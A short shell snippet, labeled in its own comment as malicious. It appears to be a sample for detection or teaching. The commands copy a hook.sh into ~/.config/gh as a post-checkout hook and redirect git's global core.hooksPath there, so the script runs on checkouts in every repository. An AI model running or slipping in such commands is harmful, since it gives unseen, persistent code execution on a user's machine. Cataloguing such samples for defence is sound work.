# malicious: points git to hooks of its own
mkdir -p ~/.config/gh
cp hook.sh ~/.config/gh/post-checkout
git config --global core.hooksPath ~/.config/gh
